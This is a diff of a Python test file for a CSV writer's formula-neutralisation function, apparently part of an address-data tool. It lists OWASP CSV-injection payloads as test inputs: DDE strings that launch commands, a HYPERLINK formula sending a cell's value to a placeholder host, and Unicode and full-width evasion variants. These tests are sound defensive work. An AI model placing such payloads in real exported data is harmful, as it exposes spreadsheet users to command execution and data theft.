@@ -120,10 +120,36 @@ def test_duplicate_header_names_are_kept_apart():
     assert recs[0].fields == {"a": "1", "a_2": "2", "b": "3"}
 
 
-@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
+# OWASP's CSV-injection payloads, the same after leading blanks/format characters, and full-width forms.
+FORMULAS = ["=1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.test/?d=\"&A1,\"click\")",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "=10+20+cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0", "+A1", "-A1*2", "-SUM(A1:A2)",
+            "\t=1+1", "\r=1+1", "\n-3+3+cmd|' /C calc'!A0", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
+            "\u2060@SUM(A1)", "\uff1d1+1", "\ufe661+1", "\uff0bcmd|' /C calc'!A0", "\uff20SUM(A1)",
+            "\uff0d2+3+cmd|' /C calc'!A0", "\u3000\uff1d1+1", "-2610 Boudle Rd, Bloomfield VT"]
+# Numbers and phone numbers a person or addrcode writes: never changed.
+PLAIN = ["-73.1802341", "+44.12", "-1.5e-07", "+1 802-555-0142", "+44 20 7946 0958", "(802) 555-0142",
+         "802.555.0142", "-", "+", "-0", "+1 (802) 555-0142", "-12,345.50", "12 Main St", "1+1", "Main St - rear",
+         "'quoted", "", " 12 Main St", "\u00e9cole"]
+
+
+@pytest.mark.parametrize("value", FORMULAS)
 def test_formula_cells_are_neutralised(value):
-    assert io.neutralise(value).startswith("'")
-    assert io.neutralise("12 Main St") == "12 Main St"
+    assert io.neutralise(value) == "'" + value
+    assert io.unneutralise(io.neutralise(value)) == value
+
+
+@pytest.mark.parametrize("value", PLAIN)
+def test_numbers_phones_and_text_are_kept_exactly(value):
+    assert io.neutralise(value) == value
+    assert io.unneutralise(value) == value
+
+
+def test_numbers_addrcode_writes_are_never_quoted():
+    buf = stdio.StringIO(newline="")
+    w = io.RecordWriter(buf, "csv", ["lon", "lat", "n", "phone"], str)
+    w.write({"lon": -73.18023417, "lat": -35.2, "n": -3, "phone": "+1 802-555-0142"})
+    assert buf.getvalue().splitlines()[1] == "-73.1802342,-35.2,-3,+1 802-555-0142"
 
 
 def test_writers_emit_one_record_each():
